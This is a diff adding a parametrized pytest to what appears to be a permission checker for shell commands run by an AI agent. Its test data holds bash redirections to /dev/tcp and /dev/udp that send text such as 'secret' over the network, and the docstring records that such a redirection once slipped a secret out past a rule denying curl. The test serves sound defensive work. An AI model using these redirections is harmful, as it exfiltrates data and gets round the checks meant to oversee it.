@@ -1578,3 +1578,17 @@ def test_home_set_before_an_allowed_git_status_runs_nothing_unasked(
     assert f"`HOME={home}`" in r.message
     assert not marker.exists()
     assert client.bash("git status").exit_code == 0 and not marker.exists()  # (its own HOME)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo secret > /dev/tcp/127.0.0.1/9", "echo x >> /dev/udp/10.0.0.1/53", "ls x < /dev/tcp/h/80",
+     "bash -c 'echo x > /dev/tcp/h/1'"],
+)  # fmt: skip
+def test_a_redirection_to_the_network_asks(command: str) -> None:
+    """bash opens `/dev/tcp/HOST/PORT` as a connection: `echo` allowed, `curl` denied, and
+    a secret went out through it unasked (a review). Only as written (`/dev//tcp` is a
+    file); under `Bash(*)` alone it runs."""
+    assert verdict(command) == "ask"
+    assert verdict(command, {"allow": ["Bash(*)"]}) == "allow"
+    assert verdict("echo x > /dev//tcp/h/1") == "allow"
